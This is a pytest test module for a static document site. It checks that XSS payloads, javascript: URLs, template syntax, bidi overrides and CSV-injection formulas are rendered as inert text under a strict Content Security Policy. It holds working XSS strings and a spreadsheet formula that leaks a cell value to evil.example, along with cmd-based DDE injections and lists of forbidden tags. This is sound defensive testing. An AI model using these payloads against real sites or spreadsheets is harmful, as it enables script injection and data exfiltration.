"""Hostile text and Content Security Policy.

The hostile corpus (``tests/hostile/``: two documents with their sidecars, and the data files
``site.yaml``, ``states.yaml``, ``topics.yaml`` and the UNBIS extract) puts HTML, ``<script>``,
event-handler attributes, ``javascript:``/``data:`` URLs, Markdown links and raw HTML, template
syntax, a 5,000-character word, right-to-left and zero-width characters in every text field
the build reads. It is built once (``python build.py --seeds … --data …``), then:

- static checks over every built file: scripts are only our own same-origin ``src=`` files,
  no ``on*=`` attribute, no ``javascript:``/``data:`` link, no foreign resource, payloads
  present only as escaped text, right-to-left overrides closed where their value ends, JSON and CSV files carry them as plain strings, and every page
  has the Content Security Policy;
- Chromium loads every page type and searches for the payloads: no dialog, no page error, no
  console error or CSP violation, no request off the site's origin, ``window.__pwned`` (what
  the payloads set when they run) never set, and the payload text visible as text.

The CSP is a ``<meta http-equiv>`` because GitHub Pages cannot set response headers; a meta
policy cannot carry ``frame-ancestors``, ``report-uri`` or ``sandbox`` (browsers ignore them
there), so clickjacking protection is out of reach on that host. ``test_real_site_csp`` checks
that the real site works under the policy.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import lzma
import urllib.parse

import pytest

from gates_common import INDEX_PAGES, PAGE_TYPES, open_page
from site_server import ROOT, Site, serve_built_site
from undocs.errors import ConfigError
from undocs.render import close_bidi
from undocs.search import unpacked
from undocs.settings import load_settings
from undocs.topics import load_unbis

HOSTILE = ROOT / "tests" / "hostile"

#: The 5,000-character word of both documents.
LONG_WORD = "Longmot" + "anticonstitutionnel" * 262 + "x" * 14 + "z"

#: Markup of the corpus that must never reach a page unescaped (each is in some source field).
RAW_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror",
    '"><svg onload',
    "<svg onload",
    "<iframe src=",
    "</script><script>",
    '<b onmouseover="window.__pwned',
    '<div onclick="window.__pwned',
    '<a href="javascript:',
    "<b>anglais</b>",
    "<b>gras</b>",
)

#: Payloads that must be readable as text: (page, text that the page's text content contains).
VISIBLE = {
    "": ["undocs <script>alert(1)</script>", '<img src=x onerror="window.__pwned=40"> {{ 7*7 }} {% raw %}'],
    "documents/hostile-plain/": [
        "Introduction <script>alert(1)</script> {{ 7*7 }}",
        '<img src=x onerror="window.__pwned=2">',
        '"><svg onload="window.__pwned=3">',
        "data:text/html,<script>alert(5)</script>",
        "javascript:alert(4)",
        "${alert(8)}",
        "</script><script>window.__pwned=9</script>",
        "&lt;b&gt;gras&lt;/b&gt;",
        "https://evil.example/x.png",
        '<iframe src="https://evil.example/frame"></iframe>',
        LONG_WORD,
        "عربي עברית",
        '<b onmouseover="window.__pwned=22">anglais</b>',
        "[clic](javascript:alert(6))",
    ],
    "documents/hostile-md/": [
        "Conférence <script>alert(1)</script>",
        '<img src=x onerror="window.__pwned=11"> {{ 7*7 }}',
        "[clic](javascript:alert(6))",
        "<script>window.__pwned=13</script>",
        '<div onclick="window.__pwned=14">Bloc HTML brut</div>',
        '<a href="javascript:window.__pwned=12">lien</a>',
        "{% endraw %}",
        "<img src=x onerror=alert(2)>",
        LONG_WORD,
        "CD/HOST/<script>alert(1)</script>",
    ],
    "etats/zembla/": ['Zembla <img src=x onerror="window.__pwned=10">'],
    "etats/ruritanie/": ["Ruritanie \u202e عربي עברית"],
    "themes/xss/": ["XSS <script>alert(1)</script>", "DESARMEMENT <script>alert(1)</script> NUCLEAIRE"],
    "themes/gabarits/": ["Gabarits {{ 7*7 }} {% raw %}", "</script><script>window.__pwned=9</script> &lt;b&gt;"],
    "etats-themes/": ["XSS <script>alert(1)</script>"],
    "a-propos/": ["undocs <script>alert(1)</script>"],  # the site title; documents are listed on documents/
    "documents/": ['<img src=x onerror="window.__pwned=30">'],
    "etats/": ['Zembla <img src=x onerror="window.__pwned=10">'],
    "themes/": ["Gabarits {{ 7*7 }} {% raw %}"],
    "documents/inexistant/%3Cscript%3Ealert(1)%3C/script%3E/": ["undocs <script>alert(1)</script>"],
}

#: Search queries typed into the search page, and text the results must show.
SEARCHES = {
    "alert": "alert(",
    "script": "<script>",
    "onerror": "onerror",
    "javascript": "javascript:",
    "evil": "evil.example",
    # Longer than analysis.MAX_TERM_LENGTH, so not indexed: typing it must be harmless, not fruitful.
    LONG_WORD: None,
    '<img src=x onerror="window.__pwned=99">': None,
    "{{ 7*7 }} ${alert(8)}": None,
}

#: Directives every page's policy must have, with exactly these sources.
CSP_REQUIRED = {
    "default-src": {"'self'"},
    "script-src": {"'self'"},
    "object-src": {"'none'"},
    "base-uri": {"'self'"},
}
UNSAFE = ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "data:", "*", "http:", "https:", "blob:")

#: Elements the pages never contain (the payloads would bring them). The build's own figures
#: are inline SVG (templates/figures.html): an <svg> is allowed only as one of theirs, and
#: nothing in it that loads or runs.
FORBIDDEN_TAGS = {"img", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "video", "audio",
                  "source", "foreignobject", "use", "image", "animate", "set"}  # fmt: skip
FIGURE_SVG_CLASSES = {"map-svg", "tl-columns"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "background", "ping"}


@pytest.fixture(scope="module")
def hostile():
    """The hostile corpus, built once for its port and served under /undocs/."""
    with serve_built_site(seeds=HOSTILE / "seeds", data=HOSTILE / "data") as built:
        yield built


# ------------------------------------------------------------------------------------------
# Static checks


class _Page(html.parser.HTMLParser):
    """The tags, attributes and script contents of one page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.text: list[str] = []
        self._in_script: dict[str, str | None] | None = None
        self._script_text = ""

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "script":
            self._in_script, self._script_text = attributes, ""

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            self.scripts.append((self._in_script, self._script_text))
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            self._script_text += data
        else:
            self.text.append(data)


def parse_page(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    page.close()
    return page


def csp_of(page: _Page) -> list[dict[str, list[str]]]:
    """The policies of the page's ``<meta http-equiv="Content-Security-Policy">``, parsed."""
    policies = []
    for tag, attrs in page.tags:
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "content-security-policy":
            directives: dict[str, list[str]] = {}
            for part in (attrs.get("content") or "").split(";"):
                words = part.split()
                if words:
                    directives[words[0].lower()] = words[1:]
            policies.append(directives)
    return policies


def csp_problems(page: _Page) -> list[str]:
    policies = csp_of(page)
    if len(policies) != 1:
        return [f"{len(policies)} CSP meta tags"]
    policy = policies[0]
    problems = []
    for name, sources in CSP_REQUIRED.items():
        if set(policy.get(name, ())) != sources:
            problems.append(f"{name} is {policy.get(name)}, expected {sorted(sources)}")
    for name in ("script-src", "style-src", "img-src", "default-src", "object-src", "base-uri"):
        bad = [s for s in policy.get(name, ()) if s.lower() in UNSAFE]
        if bad:
            problems.append(f"{name} allows {bad}")
    if "style-src" not in policy and "'unsafe-inline'" in policy.get("default-src", ()):
        problems.append("styles fall back on an unsafe default-src")
    return problems


def _is_relative(url: str) -> bool:
    parts = urllib.parse.urlsplit(url.strip())
    return not parts.scheme and not parts.netloc and not url.strip().startswith("//")


def _scheme(url: str) -> str:
    cleaned = "".join(c for c in url if not c.isspace() and ord(c) >= 0x20).lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned else ""


def page_problems(page: _Page, base_url: str) -> list[str]:
    """Scripts, handlers, URLs and foreign resources of one parsed page."""
    problems = []
    for attrs, content in page.scripts:
        if attrs.get("type") == "application/ld+json" and not attrs.get("src"):
            # schema.org metadata: a data block the browser never runs. It must be JSON that no
            # text of the record can end early: no "<" at all (they are \u003c escapes).
            if "<" in content or ">" in content:
                problems.append(f"markup in a JSON-LD block: {content[:80]!r}")
            try:
                json.loads(content)
            except ValueError as error:
                problems.append(f"JSON-LD block that is not JSON: {error}")
            continue
        src = attrs.get("src")
        if not src or not (_is_relative(src) or src.startswith(base_url)):
            problems.append(f"script without a same-origin src: {attrs}")
        if content.strip():
            problems.append(f"inline script: {content[:80]!r}")
        if (attrs.get("type") or "text/javascript") not in ("text/javascript", "module"):
            problems.append(f"script of type {attrs.get('type')!r}")
    for tag, attrs in page.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}> element: {attrs}")
        if tag == "svg" and attrs.get("class") not in FIGURE_SVG_CLASSES:
            problems.append(f"<svg> element that is not one of the figures': {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                problems.append(f"inline style on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                if _scheme(value) in ("javascript", "data", "vbscript", "file"):
                    problems.append(f"<{tag} {name}={value[:60]!r}>")
                # Everything the browser loads by itself must come from the site.
                loads = name != "href" or (tag == "link" and attrs.get("rel") not in ("canonical",))
                if loads and not (_is_relative(value) or value.startswith(base_url)):
                    problems.append(f"foreign resource <{tag} {name}={value[:60]!r}>")
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            problems.append("meta refresh")
        if tag == "a" and "://" in (attrs.get("href") or "") and "evil.example" in (attrs.get("href") or ""):
            problems.append(f"a link to a URL of the corpus text: {attrs.get('href')}")
    return problems


def test_every_page_is_inert_and_has_the_policy(hostile):
    pages = sorted(hostile.root.rglob("*.html"))
    assert len(pages) >= 14
    problems: list[str] = []
    for path in pages:
        rel = path.relative_to(hostile.root).as_posix()
        text = path.read_text(encoding="utf-8")
        page = parse_page(text)
        problems += [f"{rel}: {p}" for p in page_problems(page, hostile.base_url) + csp_problems(page)]
        problems += [f"{rel}: unescaped {raw!r}" for raw in RAW_MARKUP if raw in text]
        # Template syntax of the data is text, never evaluated: the header carries the tagline.
        if "{{ 7*7 }}" not in text or "{% raw %}" not in text:
            problems.append(f"{rel}: the template syntax of the tagline is not shown as text")
        if "&lt;script&gt;alert(1)&lt;/script&gt;" not in text:
            problems.append(f"{rel}: the site title's <script> is not shown escaped")
        # A right-to-left override of the data never runs on into the page's own text.
        runs = page.text + [v for _, attrs in page.tags for v in attrs.values() if v]
        problems += [f"{rel}: unclosed bidi control in {r[:60]!r}" for r in runs if close_bidi(r) != r]
    assert not problems, "\n".join(problems)


def test_payloads_are_text_of_their_pages(hostile):
    """What ``VISIBLE`` lists is in each page's text, once its entities are decoded."""
    missing = []
    for url, texts in VISIBLE.items():
        if url.startswith("documents/inexistant/"):
            path = hostile.root / "404.html"
        else:
            path = hostile.root / url / "index.html"
        page = parse_page(path.read_text(encoding="utf-8"))
        body = "".join(page.text)
        missing += [f"{url}: {t[:80]!r}" for t in texts if t not in body]
    assert not missing, "\n".join(missing)


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in _strings(k) + _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_data_files_carry_the_payloads_as_plain_strings(hostile):
    strings: dict[str, str] = {}
    for path in sorted([*hostile.root.rglob("*.json"), *hostile.root.rglob("*.json.gz"), *hostile.root.rglob("*.json.xz")]):
        rel = path.relative_to(hostile.root).as_posix()
        if rel.startswith("assets/search/"):
            rel = "assets/search/"  # the search's files, together (stored gzipped but meta.json)
        data = path.read_bytes()
        parsed = json.loads(lzma.decompress(data)) if path.suffix == ".xz" else unpacked(data)
        strings[rel] = strings.get(rel, "") + "\n" + "\n".join(_strings(parsed))
    expected = {
        "data/documents.json.xz": ["Titre <script>alert(1)</script>", "CD/HOST/<script>alert(1)</script>"],
        "data/paragraphs.json.xz": ['<img src=x onerror="window.__pwned=2">', LONG_WORD, "${alert(8)}"],
        "data/states.json.xz": ['Zembla <img src=x onerror="window.__pwned=10">', "Ruritania {{ 7*7 }} ${alert(8)}"],
        "data/topics.json.xz": ["XSS <script>alert(1)</script>", "Gabarits {{ 7*7 }} {% raw %}"],
        "assets/search/": ["</script><script>window.__pwned=9</script>", "XSS <script>alert(1)</script>"],
    }
    missing = [f"{rel}: {t[:60]!r}" for rel, texts in expected.items() for t in texts if t not in strings[rel]]
    assert not missing, "\n".join(missing)
    # No HTML escaping leaks into the data: a consumer gets the text as written.
    assert not any("&lt;script&gt;" in s for s in strings.values())
    rows = list(csv.reader(io.StringIO(lzma.decompress((hostile.root / "data" / "paragraphs.csv.xz").read_bytes()).decode("utf-8"))))
    assert any('<img src=x onerror="window.__pwned=2">' in cell for row in rows for cell in row)


#: Paragraphs of hostile-plain that a spreadsheet would read as formulas (OWASP, CSV injection).
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"clic") est une formule.',
    "+33 1 23 45 67 89 est un numéro ; -2+3+cmd|' /C calc'!A0 aussi.",
    "@SUM(1+1)*cmd|' /C calc'!A0 est du texte.",
    "- Un tiret ouvre ce paragraphe, comme dans les vrais documents.",
)


def test_csv_cells_never_begin_a_formula(hostile):
    """Each such cell of paragraphs.csv begins with a quote; the JSON keeps the exact text."""
    text = lzma.decompress((hostile.root / "data" / "paragraphs.csv.xz").read_bytes()).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row.values()]
    bad = [cell[:60] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not bad, bad
    texts = {row["text"] for row in rows}
    exact = {p["text"] for p in json.loads(lzma.decompress((hostile.root / "data" / "paragraphs.json.xz").read_bytes()))}
    for formula in FORMULAS:
        assert "'" + formula in texts and formula not in texts, formula
        assert formula in exact, formula


def test_json_ld_and_citations_carry_the_payloads_as_text(hostile):
    """The JSON-LD block gives back the title exactly; BibTeX, RIS and the feed hold it too."""
    page = parse_page((hostile.root / "documents" / "hostile-plain" / "index.html").read_text(encoding="utf-8"))
    blocks = [json.loads(content) for attrs, content in page.scripts if attrs.get("type") == "application/ld+json"]
    assert len(blocks) == 1
    title = 'Titre <script>alert(1)</script> <img src=x onerror="window.__pwned=30"> {{ 7*7 }} \u202e عربي'
    assert blocks[0]["name"] == title
    metas = {attrs.get("name"): attrs.get("content") for tag, attrs in page.tags if tag == "meta" and attrs.get("name")}
    assert metas["citation_title"] == close_bidi(title)
    assert not any((attrs.get("name") or "").startswith("citation_") and attrs.get("content") is None for _, attrs in page.tags)
    csl = json.loads((hostile.root / "documents" / "hostile-plain" / "citation.json").read_text(encoding="utf-8"))
    assert csl[0]["title"] == title
    feed = (hostile.root / "feed.xml").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in feed and "<script>" not in feed


def test_markdown_raw_html_and_links_are_text(hostile):
    """Markdown is parsed with raw HTML off, and its links and images do not become elements."""
    text = (hostile.root / "documents" / "hostile-md" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=13&lt;/script&gt;" in text
    assert "&lt;div onclick=" in text
    assert 'href="javascript' not in text.lower() and "<img" not in text


def test_links_from_data_files_must_be_web_urls(tmp_path):
    """A ``javascript:`` URL in ``site.yaml`` or the UNBIS extract is refused when loaded."""
    site = tmp_path / "site.yaml"
    for bad in ("javascript://%0Aalert(1)", "JavaScript:alert(1)", "data:text/html,x", "//evil.example/x"):
        site.write_text(f"title: t\ntagline: t\ndescription: d\nlanguage: fr\nrepository: {json.dumps(bad)}\n", encoding="utf-8")
        with pytest.raises(ConfigError, match="repository"):
            load_settings(site)
    for good, expected in (("owner/repo", "owner/repo"), ("https://example.org/r", "https://example.org/r")):
        site.write_text(f"title: t\ntagline: t\ndescription: d\nlanguage: fr\nrepository: {good}\n", encoding="utf-8")
        assert load_settings(site).repository == expected
    tsv = tmp_path / "unbis.tsv"
    tsv.write_text("id\turi\ten\tfr\n1\thttp://metadata.un.org/thesaurus/1\tX\tX\n2\tjavascript://%0Aalert(1)\tY\tY\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="javascript") as info:
        load_unbis(tsv)
    assert info.value.line == 3


# ------------------------------------------------------------------------------------------
# In Chromium

_WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', function (e) {
  window.__csp.push(e.violatedDirective + ' ' + e.blockedURI);
});
"""


class Watch:
    """Everything a page did that a payload could cause, recorded from its context's events."""

    def __init__(self, context, origin: str):
        self.origin = origin
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.console: list[str] = []
        self.outside: list[str] = []
        context.add_init_script(_WATCH)
        context.on("request", self._request)
        context.on("page", self._page)

    def _page(self, page) -> None:
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        page.on("console", self._console)

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _console(self, message) -> None:
        if message.type == "error" or "Content Security Policy" in message.text:
            self.console.append(f"{message.type}: {message.text}")

    def _request(self, request) -> None:
        parts = urllib.parse.urlsplit(request.url)
        if parts.scheme in ("data", "blob"):
            return
        if f"{parts.scheme}://{parts.netloc}" != self.origin:
            self.outside.append(request.url)

    def problems(self, page, *, expect_404: bool = False) -> list[str]:
        found = [f"dialog {d}" for d in self.dialogs] + [f"page error {e}" for e in self.errors]
        # The 404 page's own status is logged as a console error by Chromium: not a payload.
        found += [f"console {c}" for c in self.console if not (expect_404 and "404" in c and "Content Security" not in c)]
        found += [f"request off the origin: {u}" for u in self.outside]
        if page.evaluate("window.__pwned") is not None:
            found.append(f"window.__pwned = {page.evaluate('window.__pwned')!r}")
        found += [f"CSP violation {v}" for v in page.evaluate("window.__csp || []")]
        return found


def _new_page(browser, origin: str):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="fr-FR")
    watch = Watch(context, origin)
    return context, context.new_page(), watch


@pytest.mark.parametrize("url", list(VISIBLE))
def test_hostile_page_in_chromium(browser, hostile, url):
    context, page, watch = _new_page(browser, hostile.origin)
    try:
        page.goto(hostile.url(url), wait_until="load")
        page.wait_for_load_state("networkidle")
        page.mouse.move(300, 300)  # would fire a stray onmouseover
        text = page.evaluate("document.body.textContent")
        missing = [t[:80] for t in VISIBLE[url] if t not in text]
        problems = watch.problems(page, expect_404=url.startswith("documents/inexistant/"))
    finally:
        context.close()
    assert not missing, f"payload text not shown on {url}: {missing}"
    assert not problems, "\n".join(problems)


def test_hostile_search_in_chromium(browser, hostile):
    """The payloads typed into the search page: results show them as text, nothing runs."""
    context, page, watch = _new_page(browser, hostile.origin)
    failures: list[str] = []
    try:
        page.goto(hostile.url("recherche/"), wait_until="load")
        page.wait_for_selector("#search-app[data-ready='true']", timeout=10_000)
        for query, shown in SEARCHES.items():
            page.fill("#q", query)
            page.press("#q", "Enter")
            page.wait_for_function(
                "q => document.getElementById('search-results').getAttribute('data-query') === q", arg=query, timeout=10_000
            )
            page.wait_for_timeout(100)
            results = page.evaluate("document.getElementById('search-results').textContent")
            count = int(page.get_attribute("#search-app", "data-count") or 0)
            if shown is not None and (count == 0 or shown not in results):
                failures.append(f"{query[:40]!r}: {count} results, {shown[:40]!r} not shown")
        # The query and filters read from the address are text too.
        evil = urllib.parse.urlencode({"q": '<img src=x onerror="window.__pwned=98">', "etat": '"><svg onload="window.__pwned=97">'})
        page.goto(hostile.url("recherche/?" + evil), wait_until="load")
        page.wait_for_selector("#search-app[data-ready='true']", timeout=10_000)
        page.wait_for_load_state("networkidle")
        failures += watch.problems(page)
    finally:
        context.close()
    assert not failures, "\n".join(failures)


# ------------------------------------------------------------------------------------------
# The real site under its policy


def test_real_site_csp(browser, site: Site):
    """Every page of the real build has the policy, and the site works under it: pages load
    without a violation, search returns results, the cite block gets its "Copier" button."""
    static = []
    for path in sorted(site.root.rglob("*.html")):
        page = parse_page(path.read_text(encoding="utf-8"))
        static += [f"{path.relative_to(site.root)}: {p}" for p in csp_problems(page) + page_problems(page, site.base_url)]
    assert not static, "\n".join(static)

    failures: list[str] = []
    for name, path in {**PAGE_TYPES, **INDEX_PAGES}.items():
        context, page, watch = _new_page(browser, site.origin)
        try:
            open_page(page, site, name, path)
            if name == "document":
                copy = page.locator("button.copy-button").first
                if copy.count() == 0 or copy.text_content() != "Copier":
                    failures.append("document: no Copier button")
            if name == "search" and page.locator("main a[href*='documents/']").count() == 0:
                failures.append("search: no results")
            failures += [f"{name}: {p}" for p in watch.problems(page, expect_404=name == "404")]
        finally:
            context.close()
    assert not failures, "\n".join(failures)
